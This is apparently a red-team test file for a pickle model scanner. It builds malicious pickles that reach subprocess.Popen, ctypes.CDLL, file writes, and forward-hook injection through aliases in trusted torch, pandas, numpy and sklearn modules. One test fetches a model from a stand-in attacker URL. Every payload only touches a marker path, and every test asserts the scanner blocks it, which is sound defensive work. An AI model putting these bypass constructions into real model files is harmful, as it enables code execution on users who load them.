"""Red team: ways to reach a callable without a plainly dangerous GLOBAL.

Each sample is a pickle a real loader (``pickle.load``, ``torch.load(weights_only=False)``,
``joblib.load``) would act on: create or write a file, run a command, load a library. Payloads
only ever name a marker path under the test's temporary directory; nothing is loaded here.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import inert_command
from tests.redteam import pk
from tests.redteam.harness import assert_blocked, scan_sample


def _marker(marker_dir: Path, name: str = "pwned") -> str:
    return str(marker_dir / name)


# -- NEWOBJ runs __new__ with arguments --------------------------------------------------------


@pytest.mark.parametrize("module", ["numpy._core.memmap", "numpy.core.memmap"])
def test_newobj_memmap_creates_a_file(tmp_path: Path, marker_dir: Path, module: str) -> None:
    """``memmap.__new__(cls, filename, dtype, mode='w+', ...)`` creates the file it maps."""
    args = pk.tup(pk.u(_marker(marker_dir)), pk.u("uint8"), pk.u("w+"), pk.i(0), pk.tup(pk.i(1)))
    data = pk.wrap(pk.sg(module, "memmap") + args + pk.NEWOBJ, protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")


def test_copyreg_newobj_on_memmap(tmp_path: Path, marker_dir: Path) -> None:
    """The same through ``copyreg.__newobj__``, which the unpickler calls like any function."""
    body = pk.call(
        pk.glob("copyreg", "__newobj__"),
        pk.glob("numpy._core.memmap", "memmap"),
        pk.u(_marker(marker_dir)),
        pk.u("uint8"),
        pk.u("w+"),
        pk.i(0),
        pk.tup(pk.i(1)),
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


# -- module attributes of trusted namespaces that are stdlib modules ---------------------------


ALIASES = [
    ("pandas._config.localization", "subprocess.Popen"),
    ("torch._strobelight.cli_function_profiler", "subprocess.Popen"),
]


@pytest.mark.parametrize(("module", "name"), ALIASES)
def test_subprocess_reached_through_a_trusted_module(
    tmp_path: Path, marker_dir: Path, module: str, name: str
) -> None:
    """Protocol 4 resolves dotted names attribute by attribute: ``pandas…localization.subprocess``
    is the ``subprocess`` module that pandas imported."""
    argv = pk.EMPTY_LIST + pk.MARK + pk.u("touch") + pk.u(_marker(marker_dir)) + pk.APPENDS
    data = pk.wrap(pk.call(pk.sg(module, name), argv), protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL-001")


def test_tarfile_reached_through_torch_serialization(tmp_path: Path, marker_dir: Path) -> None:
    """``TarFile(name, 'w')`` creates ``name``; torch.serialization imports tarfile."""
    body = pk.call(
        pk.sg("torch.serialization", "tarfile.TarFile"), pk.u(_marker(marker_dir)), pk.u("w")
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body, 4)), "BST-PKL-001")


def test_logging_file_handler_through_torch_utils(tmp_path: Path, marker_dir: Path) -> None:
    """``logging.FileHandler(path)`` opens (creates) ``path``."""
    body = pk.call(pk.sg("torch._utils", "logging.FileHandler"), pk.u(_marker(marker_dir)))
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body, 4)), "BST-PKL-001")


def test_tempfile_through_torch_serialization(tmp_path: Path, marker_dir: Path) -> None:
    """``NamedTemporaryFile(..., dir=marker_dir, delete=False)`` writes into any directory."""
    args = (pk.u("w"), pk.i(-1), pk.NONE, pk.NONE, pk.u(""), pk.u("pwned"), pk.u(str(marker_dir)))
    body = pk.call(pk.sg("torch.serialization", "tempfile.NamedTemporaryFile"), *args, pk.FALSE)
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body, 4)), "BST-PKL-001")


def test_ctypes_through_numpy_internal(tmp_path: Path, marker_dir: Path) -> None:
    """``ctypes.CDLL(path)`` loads a shared library: its constructors run."""
    body = pk.call(pk.sg("numpy._core._internal", "ctypes.CDLL"), pk.u(_marker(marker_dir, "x.so")))
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body, 4)), "BST-PKL-001")


def test_alias_reached_with_getattr_steps(tmp_path: Path, marker_dir: Path) -> None:
    """``getattr(getattr(localization, 'subprocess'), 'Popen')``: each step looks harmless."""
    getattr_ = pk.glob("builtins", "getattr")
    module = pk.call(getattr_, pk.glob("pandas._config", "localization"), pk.u("subprocess"))
    popen = getattr_ + pk.tup(module, pk.u("Popen")) + pk.REDUCE
    argv = pk.EMPTY_LIST + pk.MARK + pk.u("touch") + pk.u(_marker(marker_dir)) + pk.APPENDS
    data = pk.wrap(popen + pk.tup(argv) + pk.REDUCE)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL-001")


def test_multiprocessing_listener_reexported_by_sklearn(tmp_path: Path) -> None:
    """``sklearn.callback._transport.Listener`` is multiprocessing's: it binds a socket."""
    body = pk.call(
        pk.glob("sklearn.callback._transport", "Listener"), pk.tup(pk.u("127.0.0.1"), pk.i(0))
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


# -- deferred calls: a reference the loader calls later -----------------------------------------


def _partial_tofile(marker_dir: Path) -> bytes:
    """``functools.partial(numpy.ndarray.tofile, array, marker)``: calling it writes a file."""
    return pk.call(
        pk.glob("functools", "partial"),
        pk.glob("numpy", "ndarray.tofile"),
        pk.ndarray_u8(b"x"),
        pk.u(_marker(marker_dir)),
    )


def test_partial_called_by_dict_through_namespace_keys(tmp_path: Path, marker_dir: Path) -> None:
    """``dict(ns)`` calls ``ns.keys()``; a SimpleNamespace's ``keys`` can be any callable."""
    namespace = (
        pk.glob("types", "SimpleNamespace")
        + pk.EMPTY_TUPLE
        + pk.NEWOBJ
        + pk.dict_of({"keys": _partial_tofile(marker_dir)})
        + pk.BUILD
    )
    data = pk.wrap(pk.call(pk.glob("builtins", "dict"), namespace), protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")


def test_partial_called_by_torch_rebuild_from_type(tmp_path: Path, marker_dir: Path) -> None:
    """``torch._tensor._rebuild_from_type_v2(func, type, args, state)`` calls ``func(*args)``."""
    body = pk.call(
        pk.glob("torch._tensor", "_rebuild_from_type_v2"),
        _partial_tofile(marker_dir),
        pk.glob("torch", "Tensor"),
        pk.EMPTY_TUPLE,
        pk.NONE,
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


def test_partial_target_set_by_build_state(tmp_path: Path, marker_dir: Path) -> None:
    """A partial's function can come from ``__setstate__((func, args, kwds, dict))``."""
    state = pk.tup(
        pk.glob("numpy", "ndarray.tofile"),
        pk.tup(pk.ndarray_u8(b"x"), pk.u(_marker(marker_dir))),
        pk.NONE,
        pk.NONE,
    )
    partial = (
        pk.call(pk.glob("functools", "partial"), pk.glob("builtins", "print")) + state + pk.BUILD
    )
    body = pk.call(
        pk.glob("torch._tensor", "_rebuild_from_type_v2"),
        partial,
        pk.glob("torch", "Tensor"),
        pk.EMPTY_TUPLE,
        pk.NONE,
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


def test_joblib_dump_reference_called_through_partial(tmp_path: Path, marker_dir: Path) -> None:
    """``joblib.numpy_pickle.dump`` lives in a trusted namespace and writes any file."""
    partial = pk.call(
        pk.glob("functools", "partial"),
        pk.glob("joblib.numpy_pickle", "dump"),
        pk.u("payload"),
        pk.u(_marker(marker_dir)),
    )
    body = pk.call(
        pk.glob("torch._tensor", "_rebuild_from_type_v2"),
        partial,
        pk.glob("torch", "Tensor"),
        pk.EMPTY_TUPLE,
        pk.NONE,
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


# -- names the framework modes skip -----------------------------------------------------------


def test_torchscript_mode_without_constants_is_plain_torch_load(tmp_path: Path) -> None:
    """``torch.load`` treats an archive as TorchScript only when it holds ``constants.pkl``;
    a ``code/`` folder alone leaves ``data.pkl`` to the Python unpickler, where
    ``torch.jit._pickle``'s attributes reach ``FunctionType``/``CodeType``."""
    import zipfile

    func_type = pk.sg("torch.jit._pickle", "build_intlist.__class__")
    code_type = pk.sg("torch.jit._pickle", "build_intlist.__code__.__class__")
    body = pk.tup(func_type, code_type)
    archive = tmp_path / "model.pt"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("archive/data.pkl", pk.wrap(body, 4))
        zf.writestr("archive/code/__torch__.py", "def forward(self):\n    return 1\n")
        zf.writestr("archive/version", "3\n")
    assert_blocked(scan_sample(tmp_path, "model.pt", archive.read_bytes()), "BST-PKL")


def test_torchscript_pickle_names_are_exact(tmp_path: Path) -> None:
    """Even in a real TorchScript archive only the restore helpers themselves are expected."""
    import zipfile

    body = pk.sg("torch.jit._pickle", "build_intlist.__globals__")
    archive = tmp_path / "model.pt"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("archive/data.pkl", pk.wrap(body, 4))
        zf.writestr("archive/constants.pkl", pk.wrap(pk.EMPTY_TUPLE, 2))
        zf.writestr("archive/version", "3\n")
    assert_blocked(scan_sample(tmp_path, "model.pt", archive.read_bytes()), "BST-PKL")


def test_inert_command_helper_is_used(marker_dir: Path) -> None:
    """The payload strings of this module come from the shared inert helper."""
    assert inert_command(marker_dir).startswith("touch ")


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("torch.cuda.memory", "CUDAPluggableAllocator"),
        ("torch.cuda", "CUDAPluggableAllocator"),
        ("torch.xpu.memory", "XPUPluggableAllocator"),
    ],
)
def test_pluggable_allocator_loads_a_shared_library(
    tmp_path: Path, marker_dir: Path, module: str, name: str
) -> None:
    """A class in torch whose constructor is ``ctypes.CDLL(path)``: trusted-namespace classes
    called with arguments are otherwise rebuilt without question."""
    body = pk.call(pk.glob(module, name), pk.u(_marker(marker_dir, "x.so")), pk.u("a"), pk.u("f"))
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL-001")


def test_gds_file_opens_with_caller_flags(tmp_path: Path, marker_dir: Path) -> None:
    """``torch.cuda.gds.GdsFile(filename, flags)`` is ``os.open(filename, flags)`` (O_CREAT)."""
    body = pk.call(pk.glob("torch.cuda.gds", "GdsFile"), pk.u(_marker(marker_dir)), pk.i(0o101))
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL-001")


def test_global_hook_registry_filled_by_setitems(tmp_path: Path) -> None:
    """SETITEMS on an imported dict changes module state: torch runs every hook in
    ``_global_forward_hooks`` on each forward() after loading."""
    hook = pk.call(pk.glob("functools", "partial"), pk.glob("builtins", "str"), pk.u("hooked"))
    body = pk.glob("torch.nn.modules.module", "_global_forward_hooks")
    body += pk.MARK + pk.i(7) + hook + pk.SETITEMS
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


def test_inst_without_arguments_calls_a_function(tmp_path: Path, marker_dir: Path) -> None:
    """INST with no arguments still calls ``klass()`` when klass is not a class, whatever the
    case of its name."""
    data = pk.MARK + pk.inst("turtle", "Screen") + pk.STOP
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")


@pytest.mark.parametrize(
    ("module", "name"),
    [
        ("ultralytics", "YOLO"),
        ("ultralytics.models.yolo.model", "YOLO"),
        ("sentence_transformers", "SentenceTransformer"),
        ("sentence_transformers.SentenceTransformer", "SentenceTransformer"),
    ],
)
def test_ecosystem_class_whose_constructor_loads_a_model(
    tmp_path: Path, module: str, name: str
) -> None:
    """Ecosystem classes called with one literal are trusted (enum members); ``YOLO(url)``
    downloads and unpickles whatever the literal names."""
    body = pk.call(pk.glob(module, name), pk.u("https://attacker.invalid/model.pt"))
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL-001")


def test_pickled_sentence_transformer_instance_is_not_a_loader_call(tmp_path: Path) -> None:
    """The same class as the type of a saved object (reconstructed, not called) stays clean."""
    body = pk.call(
        pk.glob("copyreg", "_reconstructor"),
        pk.glob("sentence_transformers.SentenceTransformer", "SentenceTransformer"),
        pk.glob("builtins", "object"),
        pk.NONE,
    )
    result = scan_sample(tmp_path, "model.pkl", pk.wrap(body + pk.EMPTY_DICT + pk.BUILD))
    assert not [f for f in result.findings if f.rule_id == "BST-PKL-001"], result.findings


def test_partial_built_by_copyreg_reconstructor(tmp_path: Path, marker_dir: Path) -> None:
    """``copyreg._reconstructor(partial, partial, f)`` is ``partial(f)``: f is what gets called."""
    partial = pk.call(
        pk.glob("copyreg", "_reconstructor"),
        pk.glob("functools", "partial"),
        pk.glob("functools", "partial"),
        pk.glob("numpy", "ndarray.tolist"),
    )
    body = pk.call(
        pk.glob("torch._tensor", "_rebuild_from_type_v2"),
        partial,
        pk.glob("torch", "Tensor"),
        pk.tup(pk.ndarray_u8(b"x")),
        pk.NONE,
    )
    assert_blocked(scan_sample(tmp_path, "model.pkl", pk.wrap(body)), "BST-PKL")


def test_ndarray_dump_writes_a_pickle_file(tmp_path: Path, marker_dir: Path) -> None:
    """``ndarray.dump(file)`` pickles the array to any path: a file write by reference."""
    partial = pk.call(
        pk.glob("functools", "partial"),
        pk.glob("numpy", "ndarray.dump"),
        pk.ndarray_u8(b"x"),
        pk.u(_marker(marker_dir)),
    )
    namespace = (
        pk.glob("types", "SimpleNamespace")
        + pk.EMPTY_TUPLE
        + pk.NEWOBJ
        + pk.dict_of({"keys": partial})
        + pk.BUILD
    )
    data = pk.wrap(pk.call(pk.glob("builtins", "dict"), namespace), protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL-001")


def test_bare_function_as_a_namespace_keys_attribute(tmp_path: Path) -> None:
    """``dict(ns)`` calls ``ns.keys()``: a function stored there is called with no arguments."""
    namespace = (
        pk.glob("types", "SimpleNamespace")
        + pk.EMPTY_TUPLE
        + pk.NEWOBJ
        + pk.dict_of({"keys": pk.glob("torch.random", "seed")})
        + pk.BUILD
    )
    data = pk.wrap(pk.call(pk.glob("builtins", "dict"), namespace), protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")


def test_bound_method_as_a_namespace_keys_attribute(tmp_path: Path, marker_dir: Path) -> None:
    """``getattr(Path(marker), 'touch')`` is a bound method; as ``ns.keys`` dict(ns) runs it."""
    path = pk.call(pk.glob("pathlib", "Path"), pk.u(_marker(marker_dir)))
    touch = pk.call(pk.glob("builtins", "getattr"), path, pk.u("touch"))
    namespace = (
        pk.glob("types", "SimpleNamespace")
        + pk.EMPTY_TUPLE
        + pk.NEWOBJ
        + pk.dict_of({"keys": touch})
        + pk.BUILD
    )
    data = pk.wrap(pk.call(pk.glob("builtins", "dict"), namespace), protocol=4)
    assert_blocked(scan_sample(tmp_path, "model.pkl", data), "BST-PKL")
